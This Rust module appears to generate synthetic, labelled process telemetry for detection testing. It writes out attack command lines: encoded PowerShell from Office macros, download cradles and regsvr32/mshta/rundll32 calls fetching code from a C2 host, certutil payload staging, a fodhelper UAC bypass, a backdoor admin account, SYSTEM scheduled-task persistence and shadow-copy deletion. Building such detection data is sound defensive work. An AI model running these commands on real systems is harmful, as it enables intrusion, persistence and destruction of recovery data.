//! Attacks: command-line abuse.

use super::*;

pub(super) fn macro_encoded_powershell(g: &mut Generator, h: usize) {
    let word = open_document(g, h, "WINWORD.EXE", "docm", Kind::Benign);
    let enc = encoded_command(&g.payload(h));
    let cmd = format!("cmd.exe /c powershell.exe -nop -w hidden -enc {enc}");
    let shell = g.console(&word, Who::User, CMD, cmd, "", Kind::Attack);
    let cmd = format!("powershell.exe  -nop -w hidden -enc {enc}");
    let ps = g.spawn(&shell, Who::User, POWERSHELL, cmd, "", Kind::Attack);
    g.spawn(&ps, Who::User, WHOAMI, r#""C:\Windows\system32\whoami.exe" /all"#, "", Kind::Attack);
}

pub(super) fn excel_squiblydoo(g: &mut Generator, h: usize) {
    let excel = open_document(g, h, "EXCEL.EXE", "xlsm", Kind::Benign);
    let url = format!("http://{}/{}.sct", g.c2(), g.rng.chars(5, b"abcdefghijklmnopqrstuvwxyz"));
    let cmd = format!("cmd.exe /c regsvr32 /s /n /u /i:{url} scrobj.dll");
    let shell = g.console(&excel, Who::User, CMD, cmd, "", Kind::Attack);
    let cmd = format!("regsvr32  /s /n /u /i:{url} scrobj.dll");
    g.spawn(&shell, Who::User, REGSVR32, cmd, "", Kind::Attack);
}

pub(super) fn download_cradle(g: &mut Generator, h: usize) {
    let explorer = g.resident(h, "explorer");
    let c2 = g.c2();
    let cmd = match g.rng.below(3) {
        0 => format!(
            r#""{POWERSHELL}" -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://{c2}/a.ps1')""#
        ),
        1 => format!(r#"powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "irm https://{c2}/s | iex""#),
        _ => format!(r#""{POWERSHELL}" -c "iex(iwr -UseBasicParsing http://{c2}:8080/p.ps1)""#),
    };
    let parent = if g.rng.chance(500) {
        explorer
    } else {
        g.console(&explorer, Who::User, CMD, r#""C:\Windows\system32\cmd.exe" "#, "", Kind::Benign)
    };
    g.spawn(&parent, Who::User, POWERSHELL, cmd, "", Kind::Attack);
}

pub(super) fn webshell_certutil(g: &mut Generator, _h: usize) {
    let h = g.server("web");
    let iis = g.resident(h, "iis");
    let cmd = format!(
        r#"c:\windows\system32\inetsrv\w3wp.exe -ap "Payments" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm{} -h "C:\inetpub\temp\apppools\Payments\Payments.config" -w "" -m 0 -t 20 -ta 0"#,
        &g.rng.guid(false)[1..37]
    );
    let w3wp = g.start(&iis, Who::AppPool, r"C:\Windows\System32\inetsrv\w3wp.exe", cmd);
    let c2 = g.c2();
    let name = g.rng.chars(6, b"abcdefghijklmnopqrstuvwxyz");
    let inner = if g.rng.chance(500) {
        format!(r"certutil -urlcache -split -f http://{c2}/{name}.txt C:\Windows\Temp\{name}.txt")
    } else {
        format!(r"certutil -decode C:\Windows\Temp\{name}.txt C:\Windows\Temp\{name}.dll")
    };
    let cmd = format!(r#"cmd.exe /c "cd /d C:\inetpub\wwwroot\payments && {inner}""#);
    let shell = g.console(&w3wp, Who::AppPool, CMD, cmd, r"C:\inetpub\wwwroot\payments\", Kind::Attack);
    g.spawn(&shell, Who::AppPool, CERTUTIL, format!("{inner} "), r"C:\inetpub\wwwroot\payments\", Kind::Attack);
}

pub(super) fn mshta_remote(g: &mut Generator, h: usize) {
    let explorer = g.resident(h, "explorer");
    let c2 = g.c2();
    let cmd = match g.rng.below(3) {
        0 => format!(r#""C:\Windows\System32\mshta.exe" http://{c2}/update.hta"#),
        1 => format!(
            r#"mshta.exe vbscript:CreateObject("WScript.Shell").Run("powershell -nop -w hidden -c ""irm http://{c2}/u | iex""",0)(window.close)"#
        ),
        _ => format!(
            r#"mshta.exe "javascript:a=new ActiveXObject('WScript.Shell');a.Run('powershell -nop -w hidden -enc {}',0);close()""#,
            encoded_command(&format!("IEX(irm http://{c2}/j)"))
        ),
    };
    g.spawn(&explorer, Who::User, MSHTA, cmd, "", Kind::Attack);
}

pub(super) fn rundll32_abuse(g: &mut Generator, h: usize) {
    let user = g.user(h);
    let explorer = g.resident(h, "explorer");
    let c2 = g.c2();
    let cmd = match g.rng.below(3) {
        0 => format!(
            r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://{c2}/r.sct");window.close()"#
        ),
        1 => format!(
            r"rundll32.exe C:\Users\{user}\AppData\Roaming\Microsoft\Crypto\{}.dll,DllRegisterServer",
            g.rng.chars(7, b"abcdefghijklmnopqrstuvwxyz")
        ),
        _ => format!(r"rundll32.exe C:\ProgramData\{}\update.dll,Start", g.rng.pick(&["Intel", "Oracle", "Adobe"])),
    };
    g.spawn(&explorer, Who::User, RUNDLL32, cmd, "", Kind::Attack);
}

pub(super) fn script_from_temp(g: &mut Generator, h: usize) {
    let user = g.user(h);
    let name = format!("{}_{}", g.rng.pick(&["invoice", "scan", "payment", "delivery"]), g.rng.range(1_000, 9_999));
    let (parent, image, cmd) = match g.rng.below(3) {
        0 => {
            let outlook = g.resident(h, "outlook");
            let cache = g.rng.chars(8, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
            let path =
                format!(r"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{cache}\{name}.js");
            (outlook, WSCRIPT, format!(r#""C:\Windows\System32\WScript.exe" "{path}" "#))
        }
        1 => {
            let explorer = g.resident(h, "explorer");
            (explorer, WSCRIPT, format!(r#""C:\Windows\System32\WScript.exe" "C:\Users\{user}\Downloads\{name}.vbs" "#))
        }
        _ => {
            let explorer = g.resident(h, "explorer");
            let zip = format!(r"C:\Users\{user}\Downloads\{name}.zip");
            let zfm = g.start(
                &explorer,
                Who::User,
                r"C:\Program Files\7-Zip\7zFM.exe",
                format!(r#""C:\Program Files\7-Zip\7zFM.exe" "{zip}""#),
            );
            let tmp = format!(r"C:\Users\{user}\AppData\Local\Temp\7zO{}", g.rng.hex(8, true));
            (zfm, CSCRIPT, format!(r#""C:\Windows\System32\cscript.exe" "{tmp}\{name}.jse" "#))
        }
    };
    g.spawn(&parent, Who::User, image, cmd, "", Kind::Attack);
}

pub(super) fn cdb_script(g: &mut Generator, h: usize) {
    let explorer = g.resident(h, "explorer");
    let shell = g.console(&explorer, Who::User, CMD, r#""C:\Windows\system32\cmd.exe" "#, "", Kind::Benign);
    // Often renamed; the copy keeps the debugger's version resource (see `fleet::meta`).
    let renamed = *g.rng.pick(&[r"C:\Users\Public\dbg\dbghelp_svc.exe", r"C:\Users\Public\dbg\cdb.exe"]);
    let cmd = format!(
        r"{renamed} -cf C:\Users\Public\dbg\{}.txt -o notepad.exe",
        g.rng.chars(4, b"abcdefghijklmnopqrstuvwxyz")
    );
    g.spawn(&shell, Who::User, renamed, cmd, r"C:\Users\Public\dbg\", Kind::Attack);
}

pub(super) fn fodhelper_bypass(g: &mut Generator, h: usize) {
    let explorer = g.resident(h, "explorer");
    let enc = encoded_command(&g.payload(h));
    let ps =
        g.spawn(&explorer, Who::User, POWERSHELL, format!(r#""{POWERSHELL}" -w hidden -ep bypass"#), "", Kind::Attack);
    let key = r"HKCU\Software\Classes\ms-settings\Shell\Open\command";
    let cmd =
        format!(r#""C:\Windows\system32\reg.exe" add {key} /d "cmd.exe /c start powershell -w hidden -enc {enc}" /f"#);
    g.spawn(&ps, Who::User, REG, cmd, "", Kind::Attack);
    let cmd = format!(r#""C:\Windows\system32\reg.exe" add {key} /v DelegateExecute /t REG_SZ /f"#);
    g.spawn(&ps, Who::User, REG, cmd, "", Kind::Attack);
    let fod = g.spawn(
        &ps,
        Who::Admin,
        r"C:\Windows\System32\fodhelper.exe",
        r#""C:\Windows\system32\fodhelper.exe""#,
        "",
        Kind::Attack,
    );
    let cmd = format!("cmd.exe /c start powershell -w hidden -enc {enc}");
    let shell = g.console(&fod, Who::Admin, CMD, cmd, "", Kind::Attack);
    g.spawn(&shell, Who::Admin, POWERSHELL, format!("powershell  -w hidden -enc {enc}"), "", Kind::Attack);
}

pub(super) fn discovery_and_persistence(g: &mut Generator, h: usize) {
    let explorer = g.resident(h, "explorer");
    let enc = encoded_command(&g.payload(h));
    let shell =
        g.console(&explorer, Who::Admin, CMD, format!("cmd.exe /c powershell -nop -enc {enc}"), "", Kind::Attack);
    let ps = g.spawn(&shell, Who::Admin, POWERSHELL, format!("powershell  -nop -enc {enc}"), "", Kind::Attack);
    g.spawn(&ps, Who::Admin, WHOAMI, r#""C:\Windows\system32\whoami.exe" /all"#, "", Kind::Attack);
    let account = g.rng.pick(&["helpdesk2", "svc_backup01", "support$"]);
    let password = format!("{}{}!", g.rng.pick(&["Winter", "Spring", "Welcome"]), g.rng.range(2025, 2027));
    let net = g.spawn(
        &ps,
        Who::Admin,
        NET,
        format!(r#""C:\Windows\system32\net.exe" user {account} {password} /add"#),
        "",
        Kind::Attack,
    );
    g.spawn(
        &net,
        Who::Admin,
        NET1,
        format!(r"C:\Windows\system32\net1 user {account} {password} /add"),
        "",
        Kind::Attack,
    );
    let net = g.spawn(
        &ps,
        Who::Admin,
        NET,
        format!(r#""C:\Windows\system32\net.exe" localgroup administrators {account} /add"#),
        "",
        Kind::Attack,
    );
    g.spawn(
        &net,
        Who::Admin,
        NET1,
        format!(r"C:\Windows\system32\net1 localgroup administrators {account} /add"),
        "",
        Kind::Attack,
    );
    let beacon = encoded_command(&g.payload(h));
    let cmd = format!(
        r#""C:\Windows\system32\schtasks.exe" /create /tn "\Microsoft\Windows\Maintenance\SysHealth" /tr "powershell.exe -nop -w hidden -enc {beacon}" /sc onlogon /ru SYSTEM /f"#
    );
    g.spawn(&ps, Who::Admin, SCHTASKS, cmd, "", Kind::Attack);
}

pub(super) fn shadow_copy_deletion(g: &mut Generator, h: usize) {
    let explorer = g.resident(h, "explorer");
    let shell = g.console(&explorer, Who::Admin, CMD, r#""C:\Windows\system32\cmd.exe" "#, "", Kind::Benign);
    g.spawn(
        &shell,
        Who::Admin,
        r"C:\Windows\System32\vssadmin.exe",
        "vssadmin  delete shadows /all /quiet",
        "",
        Kind::Attack,
    );
    g.spawn(&shell, Who::Admin, r"C:\Windows\System32\wbem\WMIC.exe", "wmic  shadowcopy delete", "", Kind::Attack);
    g.spawn(
        &shell,
        Who::Admin,
        r"C:\Windows\System32\bcdedit.exe",
        "bcdedit  /set {default} recoveryenabled no",
        "",
        Kind::Attack,
    );
}
